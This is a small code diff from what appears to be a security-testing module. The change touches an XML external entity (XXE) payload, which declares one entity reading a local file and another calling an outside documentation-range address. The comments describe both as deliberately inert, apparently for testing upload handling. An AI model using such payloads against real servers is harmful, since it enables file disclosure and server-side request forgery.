@@ -24,7 +24,7 @@ export const technique = upload({
 /** The file it asks for is on no machine, and the address is of a documentation range: inert. */
 const ORDER = [
   '<?xml version="1.0"?>',
-  `<!DOCTYPE order [<!ENTITY ${'note'} SYSTEM "file:///aftertrace/nowhere">`,
+  '<!DOCTYPE order [<!ENTITY note SYSTEM "file:///aftertrace/nowhere">',
   '<!ENTITY call SYSTEM "http://192.0.2.66/aftertrace">]>',
   '<order><note>&note;</note><call>&call;</call></order>',
   '',
